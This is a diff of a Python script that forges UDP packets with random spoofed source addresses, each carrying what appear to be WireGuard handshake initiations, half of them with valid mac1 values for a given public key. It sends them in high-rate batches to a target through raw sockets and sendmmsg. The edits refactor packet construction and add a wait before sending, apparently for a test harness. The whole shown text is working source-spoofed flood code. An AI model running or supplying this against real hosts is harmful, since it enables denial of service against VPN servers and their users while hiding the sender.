@@ -17,39 +17,50 @@ import socket
 import struct
 import sys
 import time
+from itertools import accumulate
 
 PAUSE = 0.002  # between batches, seconds
 _IPV4 = struct.Struct("!BBHHHBBH4s4s")
 _UDP = struct.Struct("!HHHH")
 _IOVEC = struct.Struct("@QQ")
 _MMSGHDR = struct.Struct("@QI4xQQQQi4xI4x")  # struct mmsghdr of socket.h, 64-bit
-_SIZE = 20 + 8 + 148
 
 
-def forge(target: str, port: int, public_key: str, count: int) -> bytearray:
-    """`count` IPv4 packets in one buffer, of `_SIZE` bytes each. The kernel fills in id and header checksum."""
+def forged(source: bytes, source_port: int, target: str, port: int, data: bytes) -> bytes:
+    """A UDP datagram as an IPv4 packet. The kernel fills in id and header checksum."""
+    to = socket.inet_aton(target)
+    ip = _IPV4.pack(0x45, 0, 28 + len(data), 0, 0, 64, socket.IPPROTO_UDP, 0, source, to)
+    return ip + _UDP.pack(source_port, port, 8 + len(data), 0) + data
+
+
+def anywhere(chance: random.Random) -> bytes:
+    """An address out of 16.0.0.0/4."""
+    return (0x10000000 | chance.getrandbits(28)).to_bytes(4, "big")
+
+
+def forge(target: str, port: int, public_key: str, count: int) -> list[bytes]:
+    """`count` packets with initiations."""
     chance = random.Random(20_000)
     key = hashlib.blake2s(b"mac1----" + bytes.fromhex(public_key)).digest()
-    to = socket.inet_aton(target)
-    packets = bytearray()
+    packets = []
     for number in range(count):
-        source = (0x10000000 | chance.getrandbits(28)).to_bytes(4, "big")  # 16.0.0.0/4
-        packets += _IPV4.pack(0x45, 0, _SIZE, 0, 0, 64, socket.IPPROTO_UDP, 0, source, to)
-        packets += _UDP.pack(chance.randrange(1, 65536), port, 8 + 148, 0)
+        source, source_port = anywhere(chance), chance.randrange(1, 65536)
         message = b"\x01\0\0\0" + chance.randbytes(112)
         mac1 = hashlib.blake2s(message, key=key, digest_size=16).digest() if number % 2 else chance.randbytes(16)
-        packets += message + mac1 + bytes(16)
+        packets.append(forged(source, source_port, target, port, message + mac1 + bytes(16)))
     return packets
 
 
-def flood(target: str, packets: bytearray, rate: int) -> float:
-    """Send them all at `rate` a second; how long it took, in seconds."""
+def flood(target: str, packets: list[bytes], rate: int) -> float:
+    """Say "ready", await a line, then send them all at `rate` a second; how long it took, in seconds."""
     libc = ctypes.CDLL(None, use_errno=True)
+    joined = bytearray(b"".join(packets))
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
         sock.connect((target, 0))
-        count = len(packets) // _SIZE
-        base = ctypes.addressof(ctypes.c_char.from_buffer(packets))
-        vectors = bytearray(b"".join(_IOVEC.pack(base + _SIZE * number, _SIZE) for number in range(count)))
+        count = len(packets)
+        base = ctypes.addressof(ctypes.c_char.from_buffer(joined))
+        starts = accumulate((len(packet) for packet in packets), initial=base)
+        vectors = bytearray(b"".join(_IOVEC.pack(at, len(packet)) for at, packet in zip(starts, packets, strict=False)))
         base = ctypes.addressof(ctypes.c_char.from_buffer(vectors))
         headers = bytearray(b"".join(_MMSGHDR.pack(0, 0, base + 16 * n, 1, 0, 0, 0, 0) for n in range(count)))
         base = ctypes.addressof(ctypes.c_char.from_buffer(headers))
@@ -91,4 +102,4 @@ if __name__ == "__main__":
     rate, seconds = map(int, sys.argv[4:])
     packets = forge(address, int(port), key, rate * seconds)
     took = flood(address, packets, rate)
-    print(json.dumps({"sent": len(packets) // _SIZE, "seconds": took}))
+    print(json.dumps({"sent": len(packets), "seconds": took}))
